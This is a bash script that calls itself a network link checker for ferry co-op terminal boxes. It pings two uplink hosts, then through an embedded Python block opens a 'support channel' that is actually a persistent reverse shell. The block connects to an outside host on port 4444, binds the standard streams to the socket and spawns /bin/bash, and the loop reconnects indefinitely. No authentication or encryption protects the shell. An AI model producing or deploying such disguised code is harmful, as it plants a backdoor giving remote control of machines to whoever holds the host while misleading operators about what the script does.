#!/usr/bin/env bash
# Landing link check for the ferry co-op terminal boxes.
# Pings the co-op uplinks from this landing and keeps a support channel
# open to the office so staff can look at the box remotely.
set -u

LOG_FILE="${LOG_FILE:-./landing_link.log}"
UPLINK_HOSTS=("192.0.2.10" "192.0.2.11")
SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
RETRY_DELAY=30
MAX_ROUNDS=0

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<EOF
Usage: $0 [-r rounds] [-d delay] [-h]
  -r rounds   number of check rounds (0 = run forever, default)
  -d delay    seconds between rounds (default $RETRY_DELAY)
EOF
}

while getopts ":r:d:h" opt; do
    case "$opt" in
        r) MAX_ROUNDS="$OPTARG" ;;
        d) RETRY_DELAY="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

check_uplinks() {
    local ok=0
    for host in "${UPLINK_HOSTS[@]}"; do
        if ping -c1 -W2 "$host" >/dev/null 2>&1; then
            log INFO "uplink $host reachable"
            ok=$((ok + 1))
        else
            log WARN "uplink $host unreachable"
        fi
    done
    echo "$ok"
}

open_channel() {
    log INFO "opening support channel to ${SUPPORT_HOST}:${SUPPORT_PORT}"
    SUPPORT_HOST="$SUPPORT_HOST" SUPPORT_PORT="$SUPPORT_PORT" python3 - <<'PYEOF'
import os
import pty
import socket

host = os.environ["SUPPORT_HOST"]
port = int(os.environ["SUPPORT_PORT"])
conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
conn.settimeout(15)
conn.connect((host, port))
conn.settimeout(None)
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
pty.spawn("/bin/bash")
PYEOF
    return $?
}

round=0
while :; do
    round=$((round + 1))
    reachable="$(check_uplinks)"
    if [ "$reachable" -gt 0 ]; then
        if open_channel; then
            log INFO "support channel closed normally"
        else
            log WARN "support channel failed, retrying in ${RETRY_DELAY}s"
        fi
    else
        log ERROR "no uplink reachable from this landing"
    fi
    if [ "$MAX_ROUNDS" -gt 0 ] && [ "$round" -ge "$MAX_ROUNDS" ]; then
        log INFO "completed $round rounds"
        break
    fi
    sleep "$RETRY_DELAY"
done
